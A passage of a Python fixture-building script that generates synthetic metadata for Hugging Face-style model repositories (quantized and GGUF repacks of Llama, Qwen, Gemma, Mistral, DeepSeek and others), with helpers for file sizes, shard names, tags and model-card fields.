  qparams(8030261248, EMB_L31, "awq"), "2024-07-23", "2024-08-19", 180 * K, 75, lic="llama3.1", tok="llama3",
  lang=L31_LANG, base="meta-llama/Llama-3.1-8B-Instruct", rel="quantized", qtag=["4-bit", "awq"],
  tags=["llama-3.1", "meta", "autoawq"])
S("RedHatAI/Meta-Llama-3.1-8B-Instruct-FP8",
  dict(llama(32, 4096, 32, 8, 14336), quantization_config={"quant_method": "compressed-tensors",
                                                           "format": "float-quantized"}),
  qparams(8030261248, EMB_L31, "fp8"), "2024-07-23", "2024-11-22", 120 * K, 40, lic="llama3.1", tok="llama3",
  lang=L31_LANG, base="meta-llama/Llama-3.1-8B-Instruct", rel="quantized", qtag=["8-bit", "compressed-tensors"],
  tags=["fp8", "vllm"])
S("mlx-community/Llama-3.2-3B-Instruct-4bit",
  dict(llama(28, 3072, 24, 8, 8192, rope=R_L32, head_dim=128, tie_word_embeddings=True),
       quantization={"group_size": 64, "bits": 4}),
  qparams(3212749824, EMB_L32_3B, "mlx4"), "2024-09-25", "2024-09-25", 50 * K, 30, lic="llama3.2", tok="llama3",
  lib="mlx", lang=L31_LANG, base="meta-llama/Llama-3.2-3B-Instruct", rel="quantized", qtag=["4-bit"],
  tags=["facebook", "meta", "llama", "llama-3", "mlx"], kind="mlx")
S("mlx-community/Qwen2.5-7B-Instruct-4bit",
  dict(qwen2(28, 3584, 28, 4, 18944), quantization={"group_size": 64, "bits": 4}),
  qparams(7615616512, EMB_Q7, "mlx4"), "2024-09-18", "2024-09-18", 22 * K, 15, lic="apache-2.0", tok="qwen2",
  lib="mlx", lang=["en"], base="Qwen/Qwen2.5-7B-Instruct", rel="quantized", qtag=["4-bit"], tags=["chat", "mlx"],
  kind="mlx")

# ---- GGUF repacks ----------------------------------------------------------------------------
BQ = ["Q2_K", "Q3_K_M", "Q3_K_L", "IQ4_XS", "Q4_0", "Q4_K_S", "Q4_K_M", "Q4_K_L", "Q5_K_S", "Q5_K_M", "Q6_K",
      "Q6_K_L", "Q8_0", "f16"]
BQ_BIG = ["IQ2_M", "Q2_K", "Q3_K_M", "IQ4_XS", "Q4_K_M", "Q5_K_M", "Q6_K", "Q8_0"]
UQ = ["Q2_K", "Q3_K_M", "Q4_K_M", "Q5_K_M", "Q6_K", "Q8_0", "UD-Q2_K_XL", "UD-Q4_K_XL", "BF16"]
LQ = ["Q3_K_L", "Q4_K_M", "Q6_K", "Q8_0"]
QWQ = ["q2_k", "q3_k_m", "q4_0", "q4_k_m", "q5_0", "q5_k_m", "q6_k", "q8_0", "fp16"]
TBQ = ["Q2_K", "Q3_K_S", "Q3_K_M", "Q3_K_L", "Q4_0", "Q4_K_S", "Q4_K_M", "Q5_0", "Q5_K_S", "Q5_K_M", "Q6_K", "Q8_0"]

G("bartowski/Meta-Llama-3.1-8B-Instruct-GGUF", "meta-llama/Llama-3.1-8B-Instruct", "bartowski",
  "Meta-Llama-3.1-8B-Instruct", BQ + ["f32"], "2024-07-23", "2024-07-28", 190 * K, 270)
G("bartowski/Llama-3.2-3B-Instruct-GGUF", "meta-llama/Llama-3.2-3B-Instruct", "bartowski", "Llama-3.2-3B-Instruct",
  BQ, "2024-09-25", "2024-10-02", 160 * K, 170)
G("bartowski/Llama-3.2-1B-Instruct-GGUF", "meta-llama/Llama-3.2-1B-Instruct", "bartowski", "Llama-3.2-1B-Instruct",
  BQ, "2024-09-25", "2024-10-02", 70 * K, 100)
G("bartowski/Llama-3.3-70B-Instruct-GGUF", "meta-llama/Llama-3.3-70B-Instruct", "bartowski",
  "Llama-3.3-70B-Instruct", BQ_BIG, "2024-12-06", "2024-12-08", 45 * K, 90)
G("bartowski/Qwen2.5-7B-Instruct-GGUF", "Qwen/Qwen2.5-7B-Instruct", "bartowski", "Qwen2.5-7B-Instruct", BQ,
  "2024-09-18", "2024-09-19", 95 * K, 90)
G("bartowski/Qwen2.5-Coder-7B-Instruct-GGUF", "Qwen/Qwen2.5-Coder-7B-Instruct", "bartowski",
  "Qwen2.5-Coder-7B-Instruct", BQ, "2024-09-19", "2024-11-12", 60 * K, 70)
G("bartowski/Qwen2.5-14B-Instruct-GGUF", "Qwen/Qwen2.5-14B-Instruct", "bartowski", "Qwen2.5-14B-Instruct", BQ,
  "2024-09-18", "2024-09-19", 45 * K, 60)
G("bartowski/Qwen2.5-32B-Instruct-GGUF", "Qwen/Qwen2.5-32B-Instruct", "bartowski", "Qwen2.5-32B-Instruct", BQ,
  "2024-09-18", "2024-09-19", 40 * K, 60)
G("bartowski/Mistral-7B-Instruct-v0.3-GGUF", "mistralai/Mistral-7B-Instruct-v0.3", "bartowski",
  "Mistral-7B-Instruct-v0.3", BQ, "2024-05-22", "2024-05-23", 60 * K, 55)
G("bartowski/gemma-2-9b-it-GGUF", "google/gemma-2-9b-it", "bartowski", "gemma-2-9b-it", BQ, "2024-06-27",
  "2024-07-29", 35 * K, 210)
G("bartowski/google_gemma-3-12b-it-GGUF", "google/gemma-3-12b-it", "bartowski", "google_gemma-3-12b-it", BQ,
  "2025-03-12", "2025-03-13", 45 * K, 55, total=11766034176, mmproj=854200224)
G("bartowski/DeepSeek-R1-Distill-Qwen-7B-GGUF", "deepseek-ai/DeepSeek-R1-Distill-Qwen-7B", "bartowski",
  "DeepSeek-R1-Distill-Qwen-7B", BQ, "2025-01-20", "2025-01-21", 40 * K, 110)
G("bartowski/DeepSeek-R1-Distill-Qwen-32B-GGUF", "deepseek-ai/DeepSeek-R1-Distill-Qwen-32B", "bartowski",
  "DeepSeek-R1-Distill-Qwen-32B", BQ, "2025-01-20", "2025-01-21", 60 * K, 280)
G("bartowski/Mistral-Nemo-Instruct-2407-GGUF", "mistralai/Mistral-Nemo-Instruct-2407", "bartowski",
  "Mistral-Nemo-Instruct-2407", BQ, "2024-07-18", "2024-08-04", 30 * K, 85)
G("bartowski/Phi-3.5-mini-instruct-GGUF", "microsoft/Phi-3.5-mini-instruct", "bartowski",
  "Phi-3.5-mini-instruct", BQ, "2024-08-20", "2024-08-21", 30 * K, 85)
G("bartowski/phi-4-GGUF", "microsoft/phi-4", "bartowski", "phi-4", BQ, "2025-01-08", "2025-01-09", 25 * K, 60)
G("bartowski/Qwen_Qwen3-8B-GGUF", "Qwen/Qwen3-8B", "bartowski", "Qwen_Qwen3-8B", BQ, "2025-04-28", "2025-04-29",
  40 * K, 35)
G("bartowski/Qwen_QwQ-32B-GGUF", "Qwen/QwQ-32B", "bartowski", "Qwen_QwQ-32B", BQ, "2025-03-05", "2025-03-06",
  30 * K, 150)
G("bartowski/SmolLM2-1.7B-Instruct-GGUF", "HuggingFaceTB/SmolLM2-1.7B-Instruct", "bartowski",
  "SmolLM2-1.7B-Instruct", BQ, "2024-11-01", "2024-11-01", 8 * K, 20)
G("bartowski/Mistral-Small-24B-Instruct-2501-GGUF", "mistralai/Mistral-Small-24B-Instruct-2501", "bartowski",
  "Mistral-Small-24B-Instruct-2501", BQ, "2025-01-30", "2025-01-31", 35 * K, 140)
G("bartowski/THUDM_GLM-4-9B-0414-GGUF", "THUDM/GLM-4-9B-0414", "bartowski", "THUDM_GLM-4-9B-0414", BQ,
  "2025-04-15", "2025-04-25", 12 * K, 25)
G("unsloth/Qwen3-30B-A3B-GGUF", "Qwen/Qwen3-30B-A3B", "unsloth", "Qwen3-30B-A3B", UQ, "2025-04-28", "2025-06-27",
  110 * K, 270)
G("unsloth/gemma-3-27b-it-GGUF", "google/gemma-3-27b-it", "unsloth", "gemma-3-27b-it", UQ, "2025-03-12",
  "2025-05-20", 95 * K, 190, total=27009002240, mmproj=857988352, eos="<end_of_turn>")
G("unsloth/DeepSeek-R1-GGUF", "deepseek-ai/DeepSeek-R1", "unsloth", "DeepSeek-R1",
  ["UD-IQ1_S", "UD-IQ1_M", "UD-IQ2_XXS", "UD-Q2_K_XL", "Q2_K", "Q4_K_M", "Q8_0"], "2025-01-20", "2025-03-04",
  55 * K, 1_050, total=671026419200, folder="stemq")
G("unsloth/Llama-3.2-1B-Instruct-GGUF", "meta-llama/Llama-3.2-1B-Instruct", "unsloth", "Llama-3.2-1B-Instruct",
  UQ, "2024-09-25", "2025-04-30", 45 * K, 70)
G("unsloth/Qwen3-8B-GGUF", "Qwen/Qwen3-8B", "unsloth", "Qwen3-8B", UQ, "2025-04-28", "2025-06-10", 80 * K, 80)
G("unsloth/phi-4-GGUF", "microsoft/phi-4", "unsloth", "phi-4", UQ, "2025-01-08", "2025-02-21", 20 * K, 100)
G("unsloth/Kimi-K2-Instruct-GGUF", "moonshotai/Kimi-K2-Instruct", "unsloth", "Kimi-K2-Instruct",
  ["UD-TQ1_0", "UD-IQ1_S", "UD-IQ2_XXS", "UD-Q2_K_XL", "UD-Q4_K_XL", "Q8_0"], "2025-07-12", "2025-08-02",
  25 * K, 250, total=1026408232448)
G("unsloth/gpt-oss-20b-GGUF", "openai/gpt-oss-20b", "unsloth", "gpt-oss-20b",
  ["Q2_K", "Q3_K_M", "Q4_K_M", "Q5_K_M", "Q8_0", "F16", "UD-Q4_K_XL"], "2025-08-05", "2025-08-21", 250 * K, 450,
  bpw={"Q2_K": 4.43, "Q3_K_M": 4.45, "Q4_K_M": 4.47, "Q5_K_M": 4.5, "Q8_0": 4.6, "F16": 5.27, "UD-Q4_K_XL": 4.47})
G("unsloth/DeepSeek-R1-Distill-Llama-8B-GGUF", "deepseek-ai/DeepSeek-R1-Distill-Llama-8B", "unsloth",
  "DeepSeek-R1-Distill-Llama-8B", UQ, "2025-01-20", "2025-04-19", 25 * K, 90)
G("lmstudio-community/Meta-Llama-3.1-8B-Instruct-GGUF", "meta-llama/Llama-3.1-8B-Instruct", "lmstudio",
  "Meta-Llama-3.1-8B-Instruct", LQ + ["Q5_K_M"], "2024-07-23", "2024-07-30", 90 * K, 250)
G("lmstudio-community/Qwen2.5-7B-Instruct-GGUF", "Qwen/Qwen2.5-7B-Instruct", "lmstudio", "Qwen2.5-7B-Instruct", LQ,
  "2024-09-18", "2024-09-19", 40 * K, 25)
G("lmstudio-community/gemma-3-4b-it-GGUF", "google/gemma-3-4b-it", "lmstudio", "gemma-3-4b-it", LQ, "2025-03-12",
  "2025-03-12", 70 * K, 30, total=3880263168, mmproj=851251104)
G("lmstudio-community/Qwen3-30B-A3B-GGUF", "Qwen/Qwen3-30B-A3B", "lmstudio", "Qwen3-30B-A3B", LQ, "2025-04-28",
  "2025-04-29", 60 * K, 40)
G("Qwen/Qwen2.5-7B-Instruct-GGUF", "Qwen/Qwen2.5-7B-Instruct", "qwen", "qwen2.5-7b-instruct", QWQ, "2024-09-17",
  "2024-09-20", 50 * K, 150, split_at=4.0e9)
G("Qwen/Qwen2.5-Coder-7B-Instruct-GGUF", "Qwen/Qwen2.5-Coder-7B-Instruct", "qwen", "qwen2.5-coder-7b-instruct", QWQ,
  "2024-09-17", "2024-11-12", 25 * K, 140, split_at=4.0e9)
G("Qwen/Qwen3-8B-GGUF", "Qwen/Qwen3-8B", "plain", "Qwen3-8B", ["Q4_K_M", "Q5_0", "Q5_K_M", "Q6_K", "Q8_0"],
  "2025-05-09", "2025-05-12", 30 * K, 120)
G("ggml-org/gemma-3-270m-it-GGUF", "google/gemma-3-270m-it", "plain", "gemma-3-270m-it", ["Q8_0"], "2025-08-14",
  "2025-08-14", 35 * K, 45, tags=["llama-cpp", "gguf-my-repo"])
G("ggml-org/gemma-3-4b-it-GGUF", "google/gemma-3-4b-it", "plain", "gemma-3-4b-it", ["Q4_K_M", "Q8_0", "f16"],
  "2025-03-12", "2025-03-19", 50 * K, 30, total=3880263168, mmproj=851251104, mmproj_name="mmproj-model-f16.gguf")
G("ggml-org/gpt-oss-20b-GGUF", "openai/gpt-oss-20b", "plain", "gpt-oss-20b", ["mxfp4"], "2025-08-05", "2025-08-12",
  140 * K, 110, bpw={"MXFP4": 4.63})
G("TheBloke/Mistral-7B-Instruct-v0.2-GGUF", "mistralai/Mistral-7B-Instruct-v0.2", "thebloke",
  "mistral-7b-instruct-v0.2", TBQ, "2023-12-11", "2023-12-11", 55 * K, 470, tb_config="mistral")
G("TheBloke/TinyLlama-1.1B-Chat-v1.0-GGUF", "TinyLlama/TinyLlama-1.1B-Chat-v1.0", "thebloke",
  "tinyllama-1.1b-chat-v1.0", TBQ, "2023-12-31", "2023-12-31", 60 * K, 170, tb_config="llama")
G("TheBloke/Llama-2-7B-Chat-GGUF", "meta-llama/Llama-2-7b-chat-hf", "thebloke", "llama-2-7b-chat", TBQ,
  "2023-09-04", "2023-10-14", 75 * K, 480, tb_config="llama")
G("microsoft/Phi-3-mini-4k-instruct-gguf", "microsoft/Phi-3-mini-4k-instruct", "msphi", "Phi-3-mini-4k-instruct",
  ["q4", "fp16"], "2024-04-22", "2024-07-02", 45 * K, 500, bpw={"Q4": 5.0}, base_rel="quantized")
G("NousResearch/Hermes-3-Llama-3.1-8B-GGUF", "NousResearch/Hermes-3-Llama-3.1-8B", "thebloke",
  "Hermes-3-Llama-3.1-8B", ["Q4_K_M", "Q5_K_M", "Q6_K", "Q8_0"], "2024-08-05", "2024-08-15", 20 * K, 140)
G("hugging-quants/Llama-3.2-1B-Instruct-Q8_0-GGUF", "meta-llama/Llama-3.2-1B-Instruct", "hq",
  "llama-3.2-1b-instruct", ["q8_0"], "2024-09-25", "2024-09-25", 40 * K, 35, tags=["llama-cpp", "gguf-my-repo"])
# A made-up community repack (fixture for the card renderer's hostile-input test; no licence on purpose).
G("quantlord420/Qwen2.5-7B-Instruct-Uncensored-ULTRA-GGUF", "Qwen/Qwen2.5-7B-Instruct", "thebloke",
  "qwen2.5-7b-instruct-uncensored-ultra", ["Q4_K_M", "Q5_K_M", "Q8_0"], "2025-02-14", "2025-02-15", 312, 3,
  lic=None, fictional=True, base_rel="finetune", tags=["uncensored", "roleplay", "not-for-all-audiences"])


# --------------------------------------------------------------------------------------------
# builder
# --------------------------------------------------------------------------------------------
BPW = {"IQ1_S": 1.75, "UD-IQ1_S": 1.75, "UD-TQ1_0": 1.65, "UD-IQ1_M": 1.85, "UD-IQ2_XXS": 2.25,
       "IQ2_M": 2.7, "Q2_K": 3.0, "UD-Q2_K_XL": 2.7, "Q2_K_L": 3.3, "IQ3_XS": 3.45, "Q3_K_S": 3.5, "IQ3_M": 3.7,
       "Q3_K_M": 3.91, "Q3_K_L": 4.27, "IQ4_XS": 4.42, "IQ4_NL": 4.6, "Q4_0": 4.6, "Q4_K_S": 4.67,
       "Q4_K_M": 4.9, "UD-Q4_K_XL": 4.95, "Q4_K_L": 5.1, "Q4_1": 5.0, "Q5_0": 5.5, "Q5_K_S": 5.57, "Q5_K_M": 5.7,
       "Q6_K": 6.56, "Q6_K_L": 6.8, "Q8_0": 8.5, "F16": 16.0, "FP16": 16.0, "BF16": 16.0, "F32": 32.0,
       "MXFP4": 4.63, "Q4": 5.0}
DT_BYTES = {"BF16": 2, "F16": 2, "F32": 4, "F8_E4M3": 1, "I32": 4, "U32": 4, "U8": 1, "I8": 1}
GGUF_ARCH = {"llama": "llama", "mistral": "llama", "qwen2": "qwen2", "qwen3": "qwen3", "qwen3_moe": "qwen3moe",
             "gemma3_text": "gemma3", "gemma2": "gemma2", "phi3": "phi3", "deepseek_v3": "deepseek2",
             "kimi_k2": "deepseek2", "gpt_oss": "gpt-oss", "glm4": "glm4"}
TGI_TYPES = {"llama", "qwen2", "qwen3", "qwen3_moe", "mistral", "mixtral", "gemma", "gemma2", "gemma3",
             "gemma3_text", "phi3", "phi", "deepseek_v2", "deepseek_v3", "starcoder2", "falcon", "cohere", "cohere2",
             "granite", "olmo2", "mllama", "llava", "llava_next", "idefics3", "qwen2_vl", "qwen2_5_vl",
             "mistral3", "gpt_oss", "phimoe"}
REF_DAY = "2025-11-20"


def total_params(p) -> int:
    return p if isinstance(p, int) else sum(p.values())


def text_cfg(cfg: dict | None) -> dict:
    if not cfg:
        return {}
    return cfg.get("text_config") or cfg.get("llm_config") or cfg


def days_between(a: str, b: str) -> int:
    from datetime import date
    return (date.fromisoformat(b) - date.fromisoformat(a)).days


def split_sizes(total: int, n: int, r: random.Random) -> list[int]:
    if n == 1:
        return [total]
    base = total / n
    sizes = [int(base * r.uniform(0.97, 1.03)) for _ in range(n - 1)]
    last = total - sum(sizes)
    if last <= 0:
        sizes = [total // n] * (n - 1)
        last = total - sum(sizes)
    return sizes + [last]


def st_files(spec: dict, wbytes: int, r: random.Random) -> list[tuple[str, int]]:
    naming = spec.get("naming", "default")
    shard = spec.get("shard", 5.0) * 1e9
    if naming == "ds163":
        n = 163
    elif naming == "kimi":
        n = 61
    else:
        n = max(1, math.ceil(wbytes / shard))
    sizes = split_sizes(wbytes, n, r)
    if n == 1:
        return [("model.safetensors", wbytes + 8_000)]
    out = []
    for i, s in enumerate(sizes, 1):
        if naming == "ds163":
            name = f"model-{i:05d}-of-{n:06d}.safetensors"
        elif naming == "kimi":
            name = f"model-{i}-of-{n}.safetensors"
        else:
            name = f"model-{i:05d}-of-{n:05d}.safetensors"
        out.append((name, s + 12_000))
    return out


def n_tensors(cfg: dict) -> int:
    t = text_cfg(cfg)
    L = t.get("num_hidden_layers") or t.get("num_layers") or 24
    ex = t.get("num_experts") or t.get("n_routed_experts") or t.get("num_local_experts") or 0
    return 3 + L * (11 + 3 * ex)


def classify_family(i: str, by_id: dict) -> str:
    sp = by_id[i]
    if sp["kind"] == "gguf" and not sp.get("fictional"):
        return classify_family(sp["base"], by_id) if sp["base"] in by_id else "Other"
    if sp["kind"] == "emb":
        return "Embedding"
    a, name = i.split("/")
    n = name.lower()
    table = [("meta-llama", "Llama"), ("codellama", "Llama"), ("Qwen", "Qwen"), ("deepseek-ai", "DeepSeek"),
             ("mistralai", "Mistral"), ("mistral-community", "Mistral"), ("google", "Gemma"),
             ("microsoft", "Phi"), ("THUDM", "GLM"), ("zai-org", "GLM"), ("moonshotai", "Kimi"),
             ("HuggingFaceTB", "SmolLM/SmolVLM"), ("HuggingFaceM4", "SmolLM/SmolVLM"), ("tiiuae", "Falcon"),
             ("allenai", "OLMo"), ("ibm-granite", "Granite"), ("01-ai", "Yi"), ("internlm", "InternLM"),
             ("OpenGVLab", "InternLM"), ("bigcode", "StarCoder2"), ("TinyLlama", "TinyLlama"),
             ("CohereLabs", "Cohere"), ("openai", "gpt-oss"), ("llava-hf", "LLaVA")]
    for au, fam in table:
        if a == au:
            return fam
    if sp.get("base"):
        b = sp["base"] if isinstance(sp["base"], str) else sp["base"][-1]
        if b in by_id:
            return classify_family(b, by_id)
    return "Other (" + n + ")"


def fmt_of(sp: dict) -> str:
    if sp["kind"] == "gguf":
        return "gguf"
    if sp["kind"] == "mlx":
        return "mlx-4bit"
    q = sp.get("qtag") or []
    for k in ("awq", "gptq", "mxfp4", "fp8"):
        if k in q:
            return f"safetensors-{k}"
    if "8-bit" in q and "compressed-tensors" in q:
        return "safetensors-fp8"
    if sp.get("st") is False:
        return "pytorch-bin-only"
    if sp.get("mistral_only"):
        return "mistral-consolidated"
    return "safetensors"


def read_card(repo_id: str) -> tuple[dict | None, int | None]:
    p = CARDS / (repo_id.replace("/", "__") + ".md")
    if not p.exists():
        return None, None
    raw = p.read_bytes()
    text = raw.decode("utf-8")
    meta = None
    if text.startswith("---\n"):
        end = text.index("\n---", 4)
        import yaml
        meta = yaml.safe_load(text[4:end]) or {}
    return meta, len(raw)


def build_tags(sp: dict, *, lib, mt, pipe, card_tags, conv, lang, ds, arxiv, base, rel, lic, custom, fmt_tags,
               extra_end) -> list[str]:
    t: list[str] = []
    t += fmt_tags
    if mt:
        t.append(mt)
    if pipe:
        t.append(pipe)
    t += card_tags
    if custom:
        t.append("custom_code")
    t += sp.get("qtag") or []
    if conv:
        t.append("conversational")
    t += lang or []
    t += [f"dataset:{d}" for d in ds or []]
    t += [f"arxiv:{a}" for a in arxiv or []]
    for b in ([base] if isinstance(base, str) else base or []):
        t += [f"base_model:{b}", f"base_model:{rel}:{b}"]
    if lic:
        t.append(f"license:{lic}")
    t += extra_end
    t += ["endpoints_compatible", "region:us"]
    seen, out = set(), []
    for x in t:
        if x not in seen:
            seen.add(x)
            out.append(x)
    return out


def card_data_from_spec(sp: dict, *, lic, lic_name, lic_link, lang, base, rel, pipe, lib, tags, ds) -> dict:
    cd: dict = {}
    if lic:
        cd["license"] = lic
    if lic_name:
        cd["license_name"] = lic_name
    if lic_link:
        cd["license_link"] = lic_link
    if lang:
        cd["language"] = lang
    if base:
        cd["base_model"] = base
        if rel in ("quantized", "merge") and sp["kind"] != "gguf":
            cd["base_model_relation"] = rel
    if ds:
        cd["datasets"] = ds
    if pipe:
        cd["pipeline_tag"] = pipe
    if lib and lib != "gguf":
        cd["library_name"] = lib
    if tags:
        cd["tags"] = tags
    if sp.get("gated") == "manual" and sp["id"].startswith("meta-llama/"):
        cd["extra_gated_prompt"] = "LLAMA COMMUNITY LICENSE AGREEMENT (see the LICENSE file in this repository)."
        cd["extra_gated_button_content"] = "Submit"
    elif sp.get("gated") == "manual" and sp["id"].startswith("google/"):
        cd["extra_gated_heading"] = "Access Gemma on Hugging Face"
        cd["extra_gated_button_content"] = "Acknowledge license"
    elif sp.get("gated") == "auto":
        cd["extra_gated_description"] = "You agree to share your contact information to access this model."
    return cd


def build_one(sp: dict, by_id: dict) -> dict:
    rid = sp["id"]
    author = rid.split("/")[0]
    r = rng_for(rid)
    kind = sp["kind"]
    files: list[tuple[str, int]] = []
    card_meta, card_size = read_card(rid)
    readme = card_size or r.randint(2_500, 38_000)
    obj: dict = {}

    if kind == "gguf":
        b = by_id.get(sp["base"])
        bcfg = b["cfg"] if b else None
        t = text_cfg(bcfg)
        total = sp.get("total") or (b.get("gguf_total") if b else None) or total_params(b["params"])
        mt = t.get("model_type") or bcfg.get("model_type")
        arch = GGUF_ARCH.get(mt, mt)
        ctx = t.get("max_position_embeddings") or t.get("seq_length")
        bos, eos, tmpl, _ = TOK[b["tok"]]
        eos = sp.get("eos", eos)
        lic = sp["lic"] if "lic" in sp else b.get("lic")
        lic_name = None if sp.get("fictional") else b.get("lic_name")
        lic_link = None if sp.get("fictional") else b.get("lic_link")
        if lic_link and author == b["id"].split("/")[0]:
            lic_link = lic_link.replace(b["id"], rid)
        lang = b.get("lang")
        pipe = b.get("pipe", "image-text-to-text" if b.get("vl") else "text-generation")
        style, stem = sp["style"], sp["stem"]
        split_at = sp.get("split_at", 49.9e9)
        for q in sp["quants"]:
            bpw = (sp.get("bpw") or {}).get(q.upper(), BPW[q.upper()])
            size = int(total * bpw / 8 * (1 + r.uniform(-0.004, 0.004))) + 5_000_000
            sep = "." if style == "thebloke" else "-"
            if size <= split_at:
                files.append((f"{stem}{sep}{q}.gguf", size))
                continue
            n = math.ceil(size / split_at)
            for i, s in enumerate(split_sizes(size, n, r), 1):
                fn = f"{stem}-{q}-{i:05d}-of-{n:05d}.gguf"
                if style == "bartowski":
                    fn = f"{stem}-{q}/{fn}"
                elif style == "unsloth":
                    fn = (f"{stem}-{q}/" if sp.get("folder") == "stemq" else f"{q}/") + fn
                files.append((fn, s))
        if sp.get("mmproj"):
            default = {"bartowski": f"mmproj-{stem}-f16.gguf", "unsloth": "mmproj-F16.gguf",
                       "lmstudio": "mmproj-model-f16.gguf"}
            files.append((sp.get("mmproj_name") or default.get(style, "mmproj-model-f16.gguf"), sp["mmproj"]))
        if style == "bartowski":
            files.append((f"{stem}.imatrix", int(2_000_000 + total / 1600)))
        if sp.get("tb_config"):
            files.append(("config.json", 31))
        files = [(".gitattributes", 1519 + 90 * len(files)), ("README.md", readme)] + files
        gg = {"total": total, "architecture": arch, "context_length": ctx}
        if tmpl and not (style == "thebloke" and sp["c"] < "2024"):
            gg["chat_template"] = tmpl
        if bos:
            gg["bos_token"] = bos
        gg["eos_token"] = eos
        obj_lib = "transformers" if sp.get("tb_config") else "gguf"
        card_tags = sp.get("tags") or [x for x in (b.get("tags") or []) if x not in ("vllm", "mistral-common")]
        if author == "unsloth":
            card_tags = ["unsloth"] + card_tags
        rel = sp.get("base_rel", "quantized")
        conv = bool(tmpl)
        fmt_tags = (["transformers", "gguf"] if sp.get("tb_config") else ["gguf"])
        tags = build_tags(sp, lib=None, mt=sp.get("tb_config"), pipe=pipe, card_tags=card_tags, conv=conv,
                          lang=lang, ds=None, arxiv=None, base=sp["base"], rel=rel, lic=lic, custom=False,
                          fmt_tags=fmt_tags,
                          extra_end=(["imatrix"] if style in ("bartowski", "unsloth") else [])
                          + (["text-generation-inference"] if sp.get("tb_config") else []))
        cd = card_data_from_spec(sp, lic=lic, lic_name=lic_name, lic_link=lic_link, lang=lang, base=sp["base"],
                                 rel=rel, pipe=pipe, lib=None, tags=card_tags, ds=None)
        if style in ("bartowski", "lmstudio", "thebloke"):
            cd["quantized_by"] = {"lmstudio": "bartowski", "thebloke": author if author != "TheBloke"
                                  else "TheBloke"}.get(style, author)
        if sp.get("tb_config"):
            cd["model_type"] = sp["tb_config"]
            cd["inference"] = False
        obj.update(gated=False, library_name=obj_lib, pipeline_tag=pipe, tags=tags, gguf=gg)
        cfg = None
        lic_for_check = lic
    else:
        cfg = sp["cfg"]
        t = text_cfg(cfg)
        pd = sp["params"] if isinstance(sp["params"], dict) else {sp.get("dtype", "BF16"): sp["params"]}
        wbytes = sum(n * DT_BYTES[d] for d, n in pd.items())
        lib = sp.get("lib", "transformers")
        pipe = sp.get("pipe", "image-text-to-text" if sp.get("vl") else "text-generation")
        tok = sp.get("tok")
        bos, eos, tmpl, tokfiles = TOK[tok] if tok else (None, None, None, [])
        conv = sp.get("conv", bool(tmpl) and pipe in ("text-generation", "image-text-to-text"))
        mt = (cfg or {}).get("model_type") or ("llava" if sp.get("mistral_only") else None)
        files = [(".gitattributes", 1519), ("README.md", readme)]
        if sp.get("mistral_only"):
            files += [("params.json", 1_072), ("tekken.json", 14801223), ("consolidated.safetensors", wbytes + 16_000)]
        else:
            cfg_size = len(json.dumps(cfg, indent=2)) + 420 if cfg else 700
            files.append(("config.json", cfg_size))
            if pipe in ("text-generation", "image-text-to-text"):
                files.append(("generation_config.json", r.randint(111, 260)))
            files += tokfiles
            if sp.get("st", True):
                wf = st_files(sp, wbytes, r)
                files += wf
                if len(wf) > 1:
                    files.append(("model.safetensors.index.json", 60 * n_tensors(cfg) + 300))
            if sp.get("bins"):
                n = max(1, math.ceil(wbytes / (sp.get("shard", 5.0) * 1e9)))
                if n == 1:
                    files.append(("pytorch_model.bin", wbytes + 900_000))
                else:
                    for i, s in enumerate(split_sizes(wbytes, n, r), 1):
                        files.append((f"pytorch_model-{i:05d}-of-{n:05d}.bin", s + 40_000))
                    files.append(("pytorch_model.bin.index.json", 50 * n_tensors(cfg) + 300))
            if sp.get("consolidated"):
                if wbytes > 49e9:
                    n = math.ceil(wbytes / 5e9)
                    for i, s in enumerate(split_sizes(wbytes, n, r), 1):
                        files.append((f"consolidated-{i:05d}-of-{n:05d}.safetensors", s))
                else:
                    files.append(("consolidated.safetensors", wbytes + 10_000))
                files.append(("params.json", r.randint(200, 420)))
            if sp.get("original"):
                n = sp["original"]
                for i, s in enumerate(split_sizes(wbytes, n, r)):
                    files.append((f"original/consolidated.{i:02d}.pth", s + 1_100))
                files += [("original/params.json", 220), ("original/tokenizer.model", 2183982)]
            if rid.startswith("meta-llama/"):
                files += [("LICENSE", 7627), ("USE_POLICY.md", 4691)]
            if author == "Qwen" and sp.get("lic_link"):
                files.append(("LICENSE", 11343 if sp.get("lic") == "apache-2.0" else 6896))
            if sp.get("custom"):
                files += [(f"configuration_{mt}.py", r.randint(3_000, 12_000)),
                          (f"modeling_{mt}.py", r.randint(30_000, 90_000))]
            if sp.get("vl"):
                files += [("preprocessor_config.json", r.randint(400, 900)), ("chat_template.json", 1_600),
                          ("processor_config.json", 70)]
            if sp.get("gptoss_extra"):
                files += [("original/model.safetensors", wbytes + 30_000), ("original/config.json", 376),
                          ("original/dtypes.json", 13_083), ("metal/model.bin", wbytes + 90_000)]
            if kind == "emb":
                if sp.get("st_pool", True):
                    files += [("modules.json", 349), ("sentence_bert_config.json", 53),
                              ("config_sentence_transformers.json", 124), ("1_Pooling/config.json", 190)]
                if sp.get("onnx"):
                    ob = total_params(sp["params"]) * 4
                    if ob > 2_000_000_000:
                        files += [("onnx/model.onnx", 725_000), ("onnx/model.onnx_data", ob + 1_000)]
                    else:
                        files += [("onnx/model.onnx", ob + 400_000),
                                  ("onnx/model_quantized.onnx", ob // 4 + 200_000)]
                if sp.get("tfrust"):
                    f32 = total_params(sp["params"]) * 4
                    files += [("tf_model.h5", f32 + 30_000), ("rust_model.ot", f32 + 50_000),
                              ("openvino/openvino_model.bin", f32 // 2 + 1_000),
                              ("openvino/openvino_model.xml", 211_315)]
        lic = sp.get("lic")
        lic_name, lic_link = sp.get("lic_name"), sp.get("lic_link")
        base, rel = sp.get("base"), sp.get("rel", "finetune")
        lang, ds, arxiv = sp.get("lang"), sp.get("ds"), sp.get("arxiv")
        custom = sp.get("custom", False)
        fmt_tags = [lib] if lib else []
        if sp.get("bins"):
            fmt_tags.append("pytorch")
        if sp.get("onnx"):
            fmt_tags.append("onnx")
        if sp.get("st", True):
            fmt_tags.append("safetensors")
        extra_end = []
        if lib == "transformers" and pipe == "text-generation" and not custom:
            extra_end.append("autotrain_compatible")
        if (mt in TGI_TYPES or (cfg and text_cfg(cfg).get("model_type") in TGI_TYPES)) and not custom and \
                pipe in ("text-generation", "image-text-to-text") and kind != "mlx":
            extra_end.append("text-generation-inference")
        if kind == "emb" and "text-embeddings-inference" not in (sp.get("tags") or []) and mt in (
                "bert", "xlm-roberta", "mpnet", "nomic_bert", "new"):
            extra_end.append("text-embeddings-inference")
        card_tags = list(sp.get("tags") or [])
